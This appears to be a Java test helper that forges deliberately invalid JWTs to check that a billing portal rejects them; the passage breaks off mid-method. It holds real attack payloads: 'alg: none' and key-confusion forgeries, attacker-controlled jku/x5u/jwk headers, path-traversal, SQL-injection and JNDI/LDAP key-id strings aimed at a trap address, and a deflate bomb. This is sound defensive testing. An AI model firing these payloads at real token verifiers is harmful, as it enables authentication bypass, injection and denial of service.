package com.llmgenerator.billing.it;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.llmgenerator.billing.auth.TestRealm;
import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.crypto.impl.ECDSA;
import com.nimbusds.jose.jwk.Curve;
import com.nimbusds.jose.jwk.KeyUse;
import com.nimbusds.jose.jwk.OctetKeyPair;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64URL;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.security.GeneralSecurityException;
import java.security.KeyStore;
import java.security.MessageDigest;
import java.security.PrivateKey;
import java.security.Signature;
import java.security.cert.Certificate;
import java.security.interfaces.RSAPublicKey;
import java.time.Instant;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.StringJoiner;
import java.util.zip.DeflaterOutputStream;
import javax.crypto.Mac;
import javax.crypto.spec.SecretKeySpec;

/**
 * Makes tokens by name, each wrong in one way: what an attacker can make without the realm's key,
 * and what the realm's key can sign that is still no access token for the portal.
 */
final class TokenForge {
  private static final String ALGORITHM = "RS256";
  private static final String ALPHABET =
      "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

  private final TestRealm realm;
  private final String trap;
  private final RSAKey weak = TestRealm.rsaKey(1024, "weak");
  private final RSAKey twin = TestRealm.rsaKey(2048, "twin");
  private final RSAKey encryption =
      new RSAKey.Builder(TestRealm.rsaKey(2048, "enc")).keyUse(KeyUse.ENCRYPTION).build();
  private final OctetKeyPair edwards = TestRealm.edwardsKey(Curve.Ed25519, "ed");
  private final OctetKeyPair otherEdwards = TestRealm.edwardsKey(Curve.Ed448, "ed448");
  private final OctetKeyPair edwardsEncryption =
      new OctetKeyPair.Builder(TestRealm.edwardsKey(Curve.Ed25519, "edEnc"))
          .keyUse(KeyUse.ENCRYPTION)
          .build();
  private final byte[] secret = "0123456789abcdef0123456789abcdef".getBytes(US_ASCII);
  private final RSAKey attacker;
  private final Certificate certificate;

  /**
   * @param realm publishes from now on, beside its own keys, keys that must never verify anything
   * @param trap an address that nobody may ask
   */
  TokenForge(TestRealm realm, String trap) {
    this.realm = realm;
    this.trap = trap;
    try {
      KeyStore keys = Keytool.generate("rsa", "-keyalg", "RSA", "-keysize", "2048");
      certificate = keys.getCertificate("rsa");
      attacker =
          new RSAKey.Builder((RSAPublicKey) certificate.getPublicKey())
              .privateKey((PrivateKey) keys.getKey("rsa", Keytool.PASSWORD.toCharArray()))
              .keyID("rsa")
              .build();
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
    String own =
        TestRealm.keySet(
            realm.rsa(),
            realm.ec(),
            edwards,
            otherEdwards,
            edwardsEncryption,
            weak,
            twin,
            TestRealm.rsaKey(2048, "twin"),
            encryption);
    realm.publish(
        own.substring(0, own.lastIndexOf(']'))
            + ",{\"kty\":\"oct\",\"kid\":\"oct\",\"use\":\"sig\",\"k\":\""
            + encode(secret)
            + "\"},{\"kty\":\"oct\",\"kid\":\"octHs\",\"use\":\"sig\",\"alg\":\"HS256\",\"k\":\""
            + encode(secret)
            + "\"},{\"kty\":\"OKP\",\"crv\":\"Ed25519\",\"kid\":\"edZero\",\"use\":\"sig\",\"x\":\""
            + encode(new byte[32])
            + "\"}]}");
  }

  /** A token that is accepted, made like the forged ones. */
  String valid() {
    return signed(header("rsa"), payload());
  }

  /** As {@link #valid}, by each key of the realm. */
  Map<String, String> validOfEachKey() {
    return Map.of(
        "RSA", realm.tokenSignedBy(realm.rsa()),
        "EC", realm.tokenSignedBy(realm.ec()),
        "Ed25519", realm.tokenSignedBy(edwards));
  }

  Map<String, String> withoutAlgorithm() {
    Map<String, String> tokens = new LinkedHashMap<>();
    String signature = valid().substring(valid().lastIndexOf('.') + 1);
    for (String algorithm :
        List.of(
            "\"none\"",
            "\"None\"",
            "\"NONE\"",
            "\"nOnE\"",
            "\"none \"",
            "\" none\"",
            "\"none\\u0000\"",
            "\"n\\u006fne\"",
            "\"\\uff4eone\"",
            "\"\"",
            "null",
            "0",
            "false",
            "[]",
            "{}",
            "[\"none\"]",
            "[\"RS256\"]",
            "[\"RS256\",\"none\"]")) {
      String unsigned =
          encode("{\"alg\":" + algorithm + ",\"kid\":\"rsa\",\"typ\":\"JWT\"}")
              + "."
              + encode(payload());
      tokens.put(algorithm + " without signature", unsigned + ".");
      tokens.put(algorithm + " with another token's signature", unsigned + "." + signature);
      tokens.put(algorithm + " with a signature of a byte", unsigned + ".AA");
    }
    String noAlgorithm = encode("{\"kid\":\"rsa\",\"typ\":\"JWT\"}") + "." + encode(payload());
    tokens.put("missing", noAlgorithm + "." + signature);
    tokens.put(
        "missing, signed all the same", signed("{\"kid\":\"rsa\",\"typ\":\"JWT\"}", payload()));
    tokens.put(
        "none after RS256",
        signed("{\"alg\":\"RS256\",\"alg\":\"none\",\"kid\":\"rsa\"}", payload()));
    tokens.put(
        "none before RS256",
        signed("{\"alg\":\"none\",\"alg\":\"RS256\",\"kid\":\"rsa\"}", payload()));
    return tokens;
  }

  Map<String, String> withThePublicKeyAsSecret() throws JOSEException {
    Map<String, String> tokens = new LinkedHashMap<>();
    RSAPublicKey key = realm.rsa().toRSAPublicKey();
    String base64 = Base64.getEncoder().encodeToString(key.getEncoded());
    String pem =
        "-----BEGIN PUBLIC KEY-----\n"
            + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(key.getEncoded())
            + "\n-----END PUBLIC KEY-----";
    Map<String, byte[]> secrets = new LinkedHashMap<>();
    secrets.put("PEM", pem.getBytes(US_ASCII));
    secrets.put("PEM with a last line break", (pem + "\n").getBytes(US_ASCII));
    secrets.put("PEM of Windows", pem.replace("\n", "\r\n").getBytes(US_ASCII));
    secrets.put("DER", key.getEncoded());
    secrets.put("DER of PKCS#1", Arrays.copyOfRange(key.getEncoded(), 24, 294));
    secrets.put("Base64", base64.getBytes(US_ASCII));
    secrets.put("JWK", realm.rsa().toPublicJWK().toJSONString().getBytes(UTF_8));
    secrets.put("JWK Set", TestRealm.keySet(realm.rsa(), realm.ec()).getBytes(UTF_8));
    secrets.put("modulus", key.getModulus().toByteArray());
    secrets.put("modulus without sign", realm.rsa().getModulus().decode());
    secrets.put("modulus as text", realm.rsa().getModulus().toString().getBytes(US_ASCII));
    secrets.put("zero", new byte[1]);
    for (String bits : List.of("256", "384", "512")) {
      secrets.forEach(
          (name, secret) ->
              tokens.put(
                  "HS" + bits + " by " + name, hmac("HS" + bits, "rsa", "HmacSHA" + bits, secret)));
    }
    tokens.put("HS256 by a secret of the key set", hmac("HS256", "oct", "HmacSHA256", secret));
    tokens.put("HS256 by its own secret", hmac("HS256", "octHs", "HmacSHA256", secret));
    tokens.put("RS256 by a secret of the key set", hmac("RS256", "oct", "HmacSHA256", secret));
    tokens.put(
        "HS256 by the key of the elliptic curve",
        hmac("HS256", "ec", "HmacSHA256", realm.ec().toECPublicKey().getEncoded()));
    return tokens;
  }

  Map<String, String> withAWrongSignature() throws JOSEException {
    Map<String, String> tokens = new LinkedHashMap<>();
    String input = encode(header("rsa")) + "." + encode(payload());
    byte[] inputBytes = input.getBytes(US_ASCII);
    PrivateKey key = realm.rsa().toPrivateKey();
    byte[] good = sign("SHA256withRSA", key, inputBytes);
    Map<String, byte[]> signatures = new LinkedHashMap<>();
    signatures.put(
        "of another token", sign("SHA256withRSA", key, (input + ".").getBytes(US_ASCII)));
    signatures.put("empty", new byte[0]);
    signatures.put("a byte short", Arrays.copyOf(good, 255));
    signatures.put("half", Arrays.copyOf(good, 128));
    signatures.put("without its first byte", Arrays.copyOfRange(good, 1, 256));
    signatures.put("a byte", Arrays.copyOf(good, 1));
    signatures.put("with a zero after it", Arrays.copyOf(good, 257));
    signatures.put("with a zero before it", padded(good, 257));
    signatures.put("twice", padded(good, 512));
    signatures.put("zeros", new byte[256]);
    signatures.put("one", padded(new byte[] {1}, 256));
    signatures.put("the modulus", realm.rsa().getModulus().decode());
    signatures.put(
        "one less than the modulus",
        unsigned(realm.rsa().getModulus().decodeToBigInteger().subtract(BigInteger.ONE)));
    signatures.put(
        "itself and the modulus",
        unsigned(new BigInteger(1, good).add(realm.rsa().getModulus().decodeToBigInteger())));
    byte[] ones = new byte[256];
    Arrays.fill(ones, (byte) 255);
    signatures.put("ones", ones);
    signatures.put("oversized", new byte[4096]);
    byte[] changed = good.clone();
    changed[100] ^= 1;
    signatures.put("with a changed bit", changed);
    signatures.put("of another key", sign("SHA256withRSA", attacker.toPrivateKey(), inputBytes));
    signatures.put("by SHA-1", sign("SHA1withRSA", key, inputBytes));
    signatures.put("by SHA-512", sign("SHA512withRSA", key, inputBytes));
    signatures.forEach((name, signature) -> tokens.put(name, input + "." + encode(signature)));
    tokens.putAll(withAWrongSignatureOfTheCurve());
    tokens.putAll(withAWrongSignatureOfTheEdwardsCurve());
    return tokens;
  }

  private Map<String, String> withAWrongSignatureOfTheEdwardsCurve() {
    Map<String, String> tokens = new LinkedHashMap<>();
    String[] parts = realm.tokenSignedBy(edwards).split("\\.");
    byte[] good = Base64.getUrlDecoder().decode(parts[2]);
    // RFC 8032, section 5.1: of little-endian numbers.
    BigInteger order =
        BigInteger.TWO.pow(252).add(new BigInteger("27742317777372353535851937790883648493"));
    byte[] r = Arrays.copyOf(good, 32);
    byte[] s = Arrays.copyOfRange(good, 32, 64);
    byte[] changed = good.clone();
    changed[40] ^= 1;
    byte[] identity = Arrays.copyOf(new byte[] {1}, 32);
    Map<String, byte[]> signatures = new LinkedHashMap<>();
    signatures.put("EdDSA empty", new byte[0]);
    signatures.put("EdDSA a byte short", Arrays.copyOf(good, 63));
    signatures.put("EdDSA with a zero after it", Arrays.copyOf(good, 65));
    signatures.put("EdDSA twice", join(good, good));
    signatures.put("EdDSA of zeros", new byte[64]);
    signatures.put("EdDSA with a changed bit", changed);
    signatures.put("EdDSA with R and S swapped", join(s, r));
    signatures.put("EdDSA with S zero", join(r, new byte[32]));
    signatures.put("EdDSA with R the identity and S zero", join(identity, new byte[32]));
    signatures.put(
        "EdDSA with S and the order",
        join(r, reversed(padded(unsigned(new BigInteger(1, reversed(s)).add(order)), 32))));
    signatures.put("EdDSA oversized", new byte[4096]);
    signatures.forEach(
        (name, signature) -> tokens.put(name, parts[0] + "." + parts[1] + "." + encode(signature)));
    String zero = encode(header("EdDSA", "edZero")) + "." + encode(payload()) + ".";
    tokens.put("EdDSA by a key of low order", zero + encode(join(identity, new byte[32])));
    for (String algorithm : List.of("Ed25519", "Ed448", "ES256", "RS256", "HS256")) {
      String header = encode(header(algorithm, "ed"));
      tokens.put(algorithm + " of the Edwards curve", header + "." + parts[1] + "." + parts[2]);
    }
    return tokens;
  }

  private static byte[] reversed(byte[] bytes) {
    byte[] reversed = new byte[bytes.length];
    for (int i = 0; i < bytes.length; i++) {
      reversed[i] = bytes[bytes.length - 1 - i];
    }
    return reversed;
  }

  private Map<String, String> withAWrongSignatureOfTheCurve() throws JOSEException {
    Map<String, String> tokens = new LinkedHashMap<>();
    String input = encode(header("ES256", "ec")) + "." + encode(payload());
    byte[] der = sign("SHA256withECDSA", realm.ec().toECPrivateKey(), input.getBytes(US_ASCII));
    byte[] good = ECDSA.transcodeSignatureToConcat(der, 64);
    BigInteger order = Curve.P_256.toECParameterSpec().getOrder();
    byte[] r = Arrays.copyOf(good, 32);
    byte[] s = Arrays.copyOfRange(good, 32, 64);
    byte[] zero = new byte[32];
    byte[] one = padded(new byte[] {1}, 32);
    byte[] n = unsigned(order);
    Map<String, byte[]> signatures = new LinkedHashMap<>();
    signatures.put("ES256 empty", new byte[0]);
    signatures.put("ES256 with r and s zero", new byte[64]);
    signatures.put("ES256 with r zero", join(zero, s));
    signatures.put("ES256 with s zero", join(r, zero));
    signatures.put("ES256 with r and s one", join(one, one));
    signatures.put("ES256 with r and s the order", join(n, n));
    signatures.put("ES256 with r the order", join(n, s));
    signatures.put("ES256 with s the order", join(r, n));
    signatures.put("ES256 with s zero and r one", join(one, zero));
    signatures.put("ES256 with r and s swapped", join(s, r));
    signatures.put("ES256 as DER", der);
    signatures.put("ES256 as DER of zeros", new byte[] {0x30, 6, 2, 1, 0, 2, 1, 0});
    signatures.put("ES256 a byte short", Arrays.copyOf(good, 63));
    signatures.put("ES256 with a zero after it", Arrays.copyOf(good, 65));
    signatures.put("ES256 of 96 bytes", join(padded(r, 48), padded(s, 48)));
    signatures.put("ES256 half", r);
    signatures.put("ES256 oversized", new byte[4096]);
    signatures.forEach((name, signature) -> tokens.put(name, input + "." + encode(signature)));
    for (String algorithm :
        List.of(
            "ES384",
            "ES512",
            "ES256K",
            "EdDSA",
            "Ed25519",
            "RS1",
            "rs256",
            "RS256 ",
            "RS257",
            "A128KW",
            "dir",
            "HS1",
            "MD5",
            "SHA256withRSA",
            "ＲＳ256")) {
      tokens.put(algorithm, signed(header(algorithm, "rsa"), payload()));
    }
    tokens.put("RS256 by the curve", signed(header(ALGORITHM, "ec"), payload()));
    tokens.put("ES256 by RSA", signed(header("ES256", "rsa"), payload()));
    tokens.put("PS256 that is RS256", signed(header("PS256", "rsa"), payload()));
    return tokens;
  }

  Map<String, String> withAKeyOfItsOwn() throws JOSEException, GeneralSecurityException {
    Map<String, String> tokens = new LinkedHashMap<>();
    String jwk = attacker.toPublicJWK().toJSONString();
    String jwkAndPrivate = attacker.toJSONString();
    String chain = Base64.getEncoder().encodeToString(certificate.getEncoded());
    Map<String, String> parameters = new LinkedHashMap<>();
    parameters.put("jwk", "\"jwk\":" + jwk);
    parameters.put("jwk with its private part", "\"jwk\":" + jwkAndPrivate);
    parameters.put("jwk of the realm", "\"jwk\":" + realm.rsa().toPublicJWK().toJSONString());
    parameters.put("jwk as text", "\"jwk\":\"x\"");
    parameters.put("jwk as array", "\"jwk\":[" + jwk + "]");
    parameters.put("jwk of nothing", "\"jwk\":{}");
    parameters.put("jwk of nonsense", "\"jwk\":{\"kty\":\"RSA\",\"n\":\"\",\"e\":\"\"}");
    parameters.put(
        "jwk off the curve",
        "\"jwk\":{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"AQ\",\"y\":\"AQ\"}");
    parameters.put("jwk as secret", "\"jwk\":{\"kty\":\"oct\",\"k\":\"" + encode(secret) + "\"}");
    for (String name : List.of("jku", "x5u")) {
      parameters.put(name, "\"" + name + "\":\"" + trap + "/keys\"");
      parameters.put(
          name + " with user", "\"" + name + "\":\"http://a@" + trap.substring(7) + "\"");
      parameters.put(name + " as file", "\"" + name + "\":\"file:///etc/passwd\"");
      parameters.put(name + " as nonsense", "\"" + name + "\":\"http://[\"");
      parameters.put(name + " as number", "\"" + name + "\":1");
      parameters.put(name + " as array", "\"" + name + "\":[\"" + trap + "\"]");
    }
    parameters.put("x5c", "\"x5c\":[\"" + chain + "\"]");
    parameters.put("x5c of nonsense", "\"x5c\":[\"AAAA\",\"!\"]");
    parameters.put("x5c as text", "\"x5c\":\"" + chain + "\"");
    parameters.put("x5c of numbers", "\"x5c\":[1,null,{}]");
    parameters.put(
        "x5t",
        "\"x5t#S256\":\""
            + encode(MessageDigest.getInstance("SHA-256").digest(certificate.getEncoded()))
            + "\"");
    parameters.forEach(
        (name, parameter) -> {
          for (String kid : List.of("rsa", "attacker")) {
            String header =
                "{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":\"" + kid + "\"," + parameter + "}";
            tokens.put(name + ", kid " + kid, signed(attacker, header, payload()));
          }
        });
    String withoutId = "{\"alg\":\"RS256\",\"typ\":\"JWT\",\"jwk\":" + jwk + "}";
    tokens.put("jwk without kid", signed(attacker, withoutId, payload()));
    tokens.put("weak key of the key set", signed(weak, header("weak"), payload()));
    tokens.put("key whose id another has", signed(twin, header("twin"), payload()));
    tokens.put("key for encryption", signed(encryption, header("enc"), payload()));
    tokens.put("Ed448 key of the key set", realm.tokenSignedBy(otherEdwards));
    tokens.put("Ed25519 key for encryption", realm.tokenSignedBy(edwardsEncryption));
    return tokens;
  }

  Map<String, String> withAHostileKeyId() {
    Map<String, String> tokens = new LinkedHashMap<>();
    for (String kid :
        List.of(
            "\"../../../../../../dev/null\"",
            "\"/etc/passwd\"",
            "\"file:///etc/passwd\"",
            "\"rsa' or '1'='1\"",
            "\"x' union select 'secret' --\"",
            "\"" + trap + "/keys\"",
            "\"${jndi:ldap://" + trap.substring(7) + "/a}\"",
            "\"{{stripe.secret-key}}\"",
            "\"\"",
            "\" \"",
            "\"rsa \"",
            "\"RSA\"",
            "\"rsa\\u0000\"",
            "\"rsa\\n\\rforged line\"",
            "\"\\ud800\"",
            "\"*\"",
            "\"" + "k".repeat(5000) + "\"",
            "null",
            "0",
            "1e99999999",
            "-1",
            "true",
            "[\"rsa\"]",
            "[]",
            "{}",
            "{\"kid\":\"rsa\"}")) {
      String name = kid.length() > 60 ? "5,000 characters" : kid;
      String header = "{\"alg\":\"RS256\",\"typ\":\"JWT\",\"kid\":" + kid + "}";
      tokens.put(name, signed(header, payload()));
    }
    tokens.put("none", signed("{\"alg\":\"RS256\",\"typ\":\"JWT\"}", payload()));
    tokens.put(
        "two", signed("{\"alg\":\"RS256\",\"kid\":\"attacker\",\"kid\":\"rsa\"}", payload()));
    tokens.put(
        "two of one meaning",
        signed("{\"alg\":\"RS256\",\"kid\":\"rsa\",\"k\\u0069d\":\"rsa\"}", payload()));
    return tokens;
  }

  Map<String, String> withUnusualHeaderParameters() throws IOException, JOSEException {
    Map<String, String> tokens = new LinkedHashMap<>();
    for (String parameter :
        List.of(
            "\"crit\":[\"exp\"],\"exp\":1",
            "\"crit\":[\"b64\"],\"b64\":true",
            "\"crit\":[]",
            "\"crit\":[\"x\"]",
            "\"crit\":[\"alg\"]",
            "\"crit\":[1]",
            "\"crit\":[null]",
            "\"crit\":\"b64\"",
            "\"crit\":{}",
            "\"crit\":null",
            "\"b64\":\"false\"",
            "\"b64\":1",
            "\"b64\":null",
            "\"b64\":[]",
            "\"typ\":\"logout+jwt\"",
            "\"typ\":\"dpop+jwt\"",
            "\"typ\":\"JWE\"",
            "\"typ\":1",
            "\"typ\":[\"JWT\"]",
            "\"typ\":{}",
            "\"cty\":1",
            "\"enc\":\"A128GCM\"",
            "\"alg\":\"RS256\"",
            "\"cty\":[]",
            "\"x5t\":{}",
            "\"x5t#S256\":[]",
            "\"iat\":{")) {
      tokens.put(
          parameter, signed("{\"alg\":\"RS256\",\"kid\":\"rsa\"," + parameter + "}", payload()));
    }
    for (String b64 : List.of("\"b64\":false", "\"b64\":false,\"crit\":[\"b64\"]")) {
      String header = encode("{\"alg\":\"RS256\",\"kid\":\"rsa\"," + b64 + "}");
      byte[] overText =
          sign(
              "SHA256withRSA",
              realm.rsa().toPrivateKey(),
              (header + "." + payload()).getBytes(UTF_8));
      tokens.put(b64 + " over the text", header + "." + encode(payload()) + "." + encode(overText));
      tokens.put(
          b64 + " over its base64url",
          signed("{\"alg\":\"RS256\",\"kid\":\"rsa\"," + b64 + "}", payload()));
    }
    ByteArrayOutputStream zipped = new ByteArrayOutputStream();
    try (DeflaterOutputStream deflater = new DeflaterOutputStream(zipped)) {
      deflater.write(payload().getBytes(UTF_8));
    }
    String zip = "{\"alg\":\"RS256\",\"kid\":\"rsa\",\"zip\":\"DEF\"}";
    tokens.put("zip", signedRaw(realm.rsa(), zip, encode(zipped.toByteArray())));
    byte[] bomb = new byte[4_000_000];
    Arrays.fill(bomb, (byte) ' ');
    zipped.reset();
    try (DeflaterOutputStream deflater = new DeflaterOutputStream(zipped)) {
      deflater.write(bomb);
    }
    tokens.put("zip of much", signedRaw(realm.rsa(), zip, encode(zipped.toByteArray())));
    for (String header : List.of("null", "[]", "\"RS256\"", "1", "{", "", " ", "{}x", "\ufeff{}")) {
      tokens.put("header " + header, signed(header, payload()));
    }
    return tokens;
  }

  Map<String, String> withAWrongClaim() {
    Map<String, String> tokens = new LinkedHashMap<>();
    String issuer = realm.issuer();
    long now = Instant.now().getEpochSecond();
    claims(
        tokens,
        "iss",
        null,
        "null",
        "\"\"",
        "\"https://sso.example.com/realms/test\"",
        quoted(issuer + "/"),
        quoted(issuer + " "),
        quoted(issuer.toUpperCase()),
        quoted(issuer.replace("localhost", "127.0.0.1")),
        quoted(issuer + "#"),
        "[" + quoted(issuer) + "]",
        "{}",
        "1",
        "true");
    claims(
        tokens,
        "aud",
        null,
        "null",
        "\"\"",
        "[]",
        "\"account\"",
        "[\"account\"]",
        "\"billing-portal \"",
        "\"Billing-Portal\"",
        "\"billing\"",
        "\"account billing-portal\"",
        "\"account,billing-portal\"",
        "{\"billing-portal\":true}",
        "1",
        "true",
        "[[\"billing-portal\"]]",
        "[1,\"billing-portal\"]",
        "[null,\"billing-portal\"]");
    claims(
        tokens,
        "exp",
        null,
        "null",
        "\"\"",
        quoted(String.valueOf(now + 300)),
        "[" + (now + 300) + "]",
        "{}",
        "true",
        "0",
        "-1",
        String.valueOf(now - 31),
        String.valueOf(now - 6 * 3600),
        "-9223372036854776000",
        "-9223372036854775808",
        "9223372036854775807",
        "9223372036854775808",
        "1e18",
        "1e300",
        "1e400",
        "1e99999999",
        "-1e99999999",
        "NaN",
        "Infinity",
        "0x7fffffff",
        (now - 3600) + ".9");
    claims(
        tokens,
        "nbf",
        "null",
        "\"\"",
        quoted(String.valueOf(now - 60)),
        "[" + (now - 60) + "]",
        "{}",
        "false",
        String.valueOf(now + 31 + 60),
        String.valueOf(now + 6 * 3600),
        "9223372036854775807",
        "1e18",
        "1e300",
        "1e99999999",
        "NaN");
    claims(
        tokens,
        "iat",
        null,
        "null",
        "\"\"",
        quoted(String.valueOf(now)),
        "[" + now + "]",
        "{}",
        "true",
        String.valueOf(now + 31 + 60),
        "9223372036854775807",
        "1e18",
        "1e300",
        "1e99999999",
        "NaN");
    claims(
        tokens,
        "sub",
        null,
        "null",
        "\"\"",
        "\" \"",
        "\"\\t\\n\"",
        "\"\\u00a0\\u2003\"",
        "1",
        "true",
        "[\"user-1\"]",
        "{\"id\":\"user-1\"}",
        quoted("x".repeat(256)),
        "\"user-1\\u0000\"",
        "\"\\u0000\"",
        "\"user-1\\n\"",
        "\"\\u007f\"",
        "\"\\ud800\"",
        "\"user-1\\udc00\"");
    claims(
        tokens,
        "typ",
        null,
        "null",
        "\"\"",
        "\"bearer\"",
        "\"BEARER\"",
        "\"Bearer \"",
        "\"JWT\"",
        "\"at+jwt\"",
        "\"ID\"",
        "\"Refresh\"",
        "\"Offline\"",
        "\"Logout\"",
        "\"DPoP\"",
        "\"Serialized-ID\"",
        "\"RegistrationAccessToken\"",
        "\"InitialAccessToken\"",
        "\"SAML\"",
        "[\"Bearer\"]",
        "[\"ID\",\"Bearer\"]",
        "{\"Bearer\":true}",
        "1",
        "true");
    claims(
        tokens,
        "cnf",
        "{\"jkt\":\"0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I\"}",
        "{\"x5t#S256\":\"0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I\"}",
        "{}",
        "null",
        "\"x\"",
        "[]");
    return tokens;
  }

  Map<String, String> withADuplicateClaim() {
    Map<String, String> tokens = new LinkedHashMap<>();
    Map<String, String> others = new LinkedHashMap<>();
    others.put("iss", "\"https://sso.example.com/realms/test\"");
    others.put("aud", "\"account\"");
    others.put("exp", "1");
    others.put("iat", "99999999999");
    others.put("sub", "\"user-2\"");
    others.put("typ", "\"ID\"");
    others.forEach(
        (name, value) -> {
          String payload = payload();
          String member = quoted(name) + ":" + value;
          String escaped =
              "\"\\u%04x%s\":%s".formatted((int) name.charAt(0), name.substring(1), value);
          String last = payload.substring(0, payload.length() - 1) + ",";
          tokens.put(
              name + " twice", signed(header("rsa"), "{" + member + "," + payload.substring(1)));
          tokens.put(
              name + " twice, the other way round", signed(header("rsa"), last + member + "}"));
          tokens.put(name + " twice, escaped", signed(header("rsa"), last + escaped + "}"));
        });
    String payload = payload();
    tokens.put(
        "nbf twice",
        signed(
            header("rsa"),
            payload.substring(0, payload.length() - 1) + ",\"nbf\":99999999999,\"nbf\":1}"));
    return tokens;
  }

  Map<String, String> ofAnotherForm() throws JOSEException {
    Map<String, String> tokens = new LinkedHashMap<>();
    String valid = valid();
    String[] parts = valid.split("\\.");
    tokens.put("encrypted for the realm", encrypted(realm.rsa(), valid));
    tokens.put("encrypted for the key for encryption", encrypted(encryption, valid));
    for (String header :
        List.of(
            "{\"alg\":\"dir\",\"enc\":\"A128GCM\",\"kid\":\"oct\"}",
            "{\"alg\":\"RSA1_5\",\"enc\":\"A128CBC-HS256\",\"kid\":\"rsa\"}",
            "{\"alg\":\"A128KW\",\"enc\":\"A128GCM\",\"kid\":\"oct\"}",
            "{\"alg\":\"PBES2-HS256+A128KW\",\"enc\":\"A128GCM\",\"p2s\":\"c2FsdHNhbHQ\",\"p2c\":2147483647}",
            "{\"alg\":\"PBES2-HS512+A256KW\",\"enc\":\"A256GCM\",\"zip\":\"DEF\",\"p2s\":\"c2FsdHNhbHQ\","
                + "\"p2c\":2147483647,\"kid\":\"rsa\"}")) {
      tokens.put(
          header, encode(header) + ".AAAAAAAAAAA.AAAAAAAAAAAAAAAA.AAAAAAAA.AAAAAAAAAAAAAAAAAAAAAA");
      tokens.put(header + " of three parts", encode(header) + "." + parts[1] + "." + parts[2]);
      tokens.put(header + " signed", signed(header, payload()));
    }
    String flattened =
        "{\"protected\":\"%s\",\"payload\":\"%s\",\"signature\":\"%s\"}"
            .formatted((Object[]) parts);
    String general =
        "{\"payload\":\"%2$s\",\"signatures\":[{\"protected\":\"%1$s\",\"signature\":\"%3$s\"}]}"
            .formatted((Object[]) parts);
    tokens.put("flattened JSON", flattened);
    tokens.put("general JSON", general);
    tokens.put("flattened JSON as base64url", encode(flattened));
    tokens.put("general JSON as base64url", encode(general));
    tokens.put("signed token in a signed token", signed(header("rsa"), valid));
    tokens.put("one part", parts[0]);
    tokens.put("two parts", parts[0] + "." + parts[1]);
    tokens.put("two parts and a dot", parts[0] + "." + parts[1] + ".");
    tokens.put("four parts", valid + "." + parts[2]);
    tokens.put("four parts, the last empty", valid + ".");
    tokens.put("four parts, the first empty", "." + valid);
    tokens.put("five parts", valid + ".." + parts[2]);
    tokens.put("six parts", valid + "." + valid);
    tokens.put("many parts", "a.".repeat(2000) + "a");
    tokens.put("no header", "." + parts[1] + "." + parts[2]);
    tokens.put("no payload", parts[0] + ".." + parts[2]);
    tokens.put("empty payload, signed", signed(header("rsa"), ""));
    tokens.put("dots", "..");
    tokens.put("a dot", ".");
    tokens.put("nothing", "");
    for (String junk :
        List.of("a.b.c", "null", "undefined", "AAAA.AAAA.AAAA", "-._", "~~~", "e30.e30.e30")) {
      tokens.put(junk, junk);
    }
    for (String payload :
        List.of("null", "[]", "\"x\"", "1", "{", "{}", "{}x", "\ufeff" + payload(), "'", " ")) {
      String name = payload.length() > 9 ? "with a byte order mark" : payload;
      tokens.put("payload " + name, signed(header("rsa"), payload));
    }
    tokens.put(
        "payload in UTF-16",
        signedRaw(realm.rsa(), header("rsa"), encode(payload().getBytes(UTF_16))));
    tokens.put(
        "payload that is no UTF-8",
        signedRaw(
            realm.rsa(),
            header("rsa"),
            encode(payload().replace("user-1", "user-1\u00ff").getBytes(ISO_8859_1))));
    return tokens;
  }

  Map<String, String> withOtherCharacters() {
    Map<String, String> tokens = new LinkedHashMap<>();
    String valid = valid();
    String[] parts = valid.split("\\.");
    tokens.put("a space in it", parts[0] + ". " + parts[1] + "." + parts[2]);
    tokens.put("a tab in it", parts[0] + ".\t" + parts[1] + "." + parts[2]);
    tokens.put("a second word", valid + " x");
    tokens.put("a comma after it", valid + ",");
    tokens.put("quotes around it", "\"" + valid + "\"");
    tokens.put("brackets around it", "<" + valid + ">");
    tokens.put("Bearer before it", "Bearer " + valid);
    tokens.put("a line break after it, escaped", valid + "%0A");
    tokens.put("a zero after it, escaped", valid + "%00");
    tokens.put("a semicolon after it", valid + ";x=1");
    tokens.put("a fragment after it", valid + "#");
    tokens.put("an equals sign after it", valid + "=");
    tokens.put("padding after it", valid + "==");
    tokens.put("padding after the header", parts[0] + "=." + parts[1] + "." + parts[2]);
    tokens.put("padding in the payload", parts[0] + "." + parts[1] + "=." + parts[2]);
    tokens.put(
        "a plus",
        valid.substring(0, valid.length() - 9) + "+" + valid.substring(valid.length() - 8));
    tokens.put(
        "a slash",
        valid.substring(0, valid.length() - 9) + "/" + valid.substring(valid.length() - 8));
    tokens.put("a tilde", valid + "~");
    tokens.put("an umlaut", valid + "\u00fc");
    tokens.put("a wide dot", parts[0] + "\uff0e" + parts[1] + "." + parts[2]);
    tokens.put("a joiner of no width", parts[0] + "\u200d." + parts[1] + "." + parts[2]);
    tokens.put("an arabic digit", valid + "\u0663");
    tokens.put("a byte order mark", "\ufeff" + valid);
    tokens.put("a surrogate pair", "\ud83d\ude00" + valid);
    for (int i = 0; i < 3; i++) {
      String[] other = parts.clone();
      other[i] = respelled(parts[i]);
      if (!other[i].equals(parts[i])) {
        tokens.put("part " + i + " with surplus bits", String.join(".", other));
      }
      other[i] = parts[i] + "A";
      tokens.put("part " + i + " with a character more", String.join(".", other));
    }
    for (String payload : List.of(payload(), payload() + " ", payload() + "  ")) {
      String other = respelled(encode(payload));
      if (!other.equals(encode(payload))) {
